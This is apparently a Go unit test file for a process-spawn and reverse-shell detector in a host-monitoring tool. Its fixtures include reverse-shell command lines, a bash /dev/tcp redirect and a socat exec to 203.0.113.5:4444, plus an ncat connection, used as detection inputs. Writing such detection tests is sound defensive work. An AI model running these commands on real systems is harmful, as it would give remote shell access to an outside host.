package detect

import (
	"strings"
	"testing"
	"time"

	"github.com/netsentinel/netsentinel/collector"
)

// spawnBase is a process tree present from the first snapshot.
func spawnBase(i int) *collector.Snapshot {
	s := bldSnap(bldT0.Add(time.Duration(i) * 2 * time.Second))
	bldProc(s, 1, 0, "systemd", "/sbin/init")
	bldProc(s, 100, 1, "nginx", "nginx: master process")
	bldProc(s, 101, 100, "nginx", "nginx: worker process")
	bldProc(s, 200, 1, "sshd", "/usr/sbin/sshd", "-D")
	bldProc(s, 201, 200, "sshd", "sshd: alice@pts/0")
	bldProc(s, 300, 1, "java", "java", "-Dcatalina.home=/opt/tomcat", "org.apache.catalina.startup.Bootstrap")
	bldProc(s, 400, 1, "gnome-terminal-", "gnome-terminal-server")
	bldProc(s, 500, 1, "postgres", "postgres", "-D", "/var/lib/postgresql")
	return s
}

func TestProcessSpawn(t *testing.T) {
	cases := []struct {
		name   string
		add    func(s *collector.Snapshot) // applied from the second snapshot on
		entity string
		rule   string
		tech   string
	}{
		{
			name:   "shell under an nginx worker",
			add:    func(s *collector.Snapshot) { bldProc(s, 1000, 101, "sh", "sh", "-c", "id") },
			entity: "spawn:1000", tech: "T1059.004",
		},
		{
			name: "python two levels below tomcat (ancestry, not parent)",
			add: func(s *collector.Snapshot) {
				bldProc(s, 1001, 300, "bash", "bash", "-c", "python3 x.py")
				bldProc(s, 1002, 1001, "python3", "/usr/bin/python3.11", "x.py")
			},
			entity: "spawn:1002", tech: "T1059.006",
		},
		{
			name:   "netcat under postgres",
			add:    func(s *collector.Snapshot) { bldProc(s, 1003, 500, "ncat", "ncat", "10.0.0.9", "9000") },
			entity: "spawn:1003", tech: "T1059",
		},
		{
			name: "dev/tcp idiom from an interactive login is still reported",
			add: func(s *collector.Snapshot) {
				bldProc(s, 1004, 201, "bash", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1")
			},
			entity: "spawn:1004", tech: "T1059.004",
		},
		{
			name: "socat EXEC idiom",
			add: func(s *collector.Snapshot) {
				bldProc(s, 1005, 201, "socat", "socat", "tcp:203.0.113.5:4444", "exec:/bin/sh,pty")
			},
			entity: "spawn:1005", tech: "T1059",
		},
		{
			name: "reverse shell: shell whose stdio is a TCP connection",
			add: func(s *collector.Snapshot) {
				p := bldProc(s, 1006, 201, "sh", "sh")
				p.StdioSockets = []uint64{4242}
				c := bldTCP("10.0.0.5:40000", "203.0.113.5:4444", "ESTABLISHED", 1006)
				c.Inode = 4242
				s.Sockets = append(s.Sockets, c)
			},
			entity: "rev:1006", rule: RuleReverseShell, tech: "T1059.004",
		},
		{
			name: "office parent spawning a shell (original rule)",
			add: func(s *collector.Snapshot) {
				bldProc(s, 700, 1, "excel", "excel")
				bldProc(s, 1007, 700, "bash", "bash")
			},
			entity: "spawn:1007", tech: "T1059.004",
		},
		{
			name: "a shell under sshd or a terminal is not suspicious",
			add: func(s *collector.Snapshot) {
				bldProc(s, 2000, 201, "bash", "-bash")
				bldProc(s, 2001, 400, "zsh", "zsh")
				bldProc(s, 2002, 2001, "python3", "python3", "-m", "http.server")
			},
		},
		{
			name: "shell socket that is a local listener is no reverse shell",
			add: func(s *collector.Snapshot) {
				p := bldProc(s, 2003, 201, "bash", "bash")
				p.StdioSockets = []uint64{77}
				l := bldListen("0.0.0.0:8080", 2003)
				l.Inode = 77
				s.Sockets = append(s.Sockets, l)
			},
		},
		{
			name: "java without an app-server marker spawning sh is not flagged",
			add: func(s *collector.Snapshot) {
				bldProc(s, 600, 1, "java", "java", "-jar", "myide.jar")
				bldProc(s, 2004, 600, "sh", "sh", "-c", "git status")
			},
		},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			d, err := newSpawn(*defaultSpawnConfig())
			if err != nil {
				t.Fatal(err)
			}
			env := bldEnv()
			if got := d.Detect(spawnBase(0), env); len(got) != 0 {
				t.Fatalf("baseline alerted: %+v", got)
			}
			var all []Alert
			for i := 1; i <= 3; i++ {
				s := spawnBase(i)
				tc.add(s)
				all = append(all, d.Detect(s, env)...)
			}
			if tc.entity == "" {
				if len(all) != 0 {
					t.Fatalf("want silence, got %+v", all)
				}
				return
			}
			a := bldFind(all, tc.entity)
			if a == nil {
				t.Fatalf("no alert %q in %+v", tc.entity, all)
			}
			if a.Technique != tc.tech || a.RuleID != tc.rule || a.Process == nil || len(a.Evidence) == 0 {
				t.Errorf("alert %+v", a)
			}
			n := 0
			for _, x := range all {
				if x.Entity == a.Entity && x.RuleID == "" {
					n++
				}
			}
			if tc.rule == "" && n != 1 {
				t.Errorf("spawn alert for one process raised %d times, want once (new processes only)", n)
			}
		})
	}
}

func TestProcessSpawnExistingShellAtStartIsBaseline(t *testing.T) {
	d, _ := newSpawn(*defaultSpawnConfig())
	s := spawnBase(0)
	bldProc(s, 1000, 101, "sh", "sh")
	if got := d.Detect(s, bldEnv()); len(got) != 0 {
		t.Fatalf("first snapshot is the baseline, got %+v", got)
	}
}

// Polling can list a child between fork and exec, under its parent's name;
// its exec into a shell one poll later (same PID and start time) is the
// spawn, or an unprivileged sensor, which has no exec events, misses it.
func TestProcessSpawnSeenBeforeItsExec(t *testing.T) {
	d, _ := newSpawn(*defaultSpawnConfig())
	env := bldEnv()
	d.Detect(spawnBase(0), env)
	s := spawnBase(1)
	bldProc(s, 1000, 101, "nginx", "nginx: worker process") // forked, not yet exec'd
	if got := d.Detect(s, env); len(got) != 0 {
		t.Fatalf("a worker's fork alerted: %+v", got)
	}
	s = spawnBase(2)
	bldProc(s, 1000, 101, "sh", "sh", "-c", "id")
	got := d.Detect(s, env)
	if len(got) != 1 || !strings.HasPrefix(got[0].Entity, "spawn:1000@") || got[0].Technique != "T1059.004" {
		t.Fatalf("exec into sh under nginx: got %+v, want one T1059.004 alert for pid 1000", got)
	}
	s = spawnBase(3)
	bldProc(s, 1000, 101, "sh", "sh", "-c", "id")
	if got := d.Detect(s, env); len(got) != 0 {
		t.Fatalf("the same shell alerted again: %+v", got)
	}
}

func TestProcessSpawnBoundedMemory(t *testing.T) {
	c := defaultSpawnConfig()
	c.MaxTracked = 2000
	d, _ := newSpawn(*c)
	env := bldEnv()
	for i := 0; i < 200; i++ {
		s := bldSnap(bldT0.Add(time.Duration(i) * 2 * time.Second))
		for j := 0; j < 1000; j++ {
			pid := int32(i*1000 + j + 2)
			s.Processes[pid] = &collector.Process{PID: pid, PPID: 1, Name: "worker", StartTime: bldT0}
		}
		d.Detect(s, env)
		if d.seen.Len() > 2000 {
			t.Fatalf("seen %d over cap", d.seen.Len())
		}
	}
}
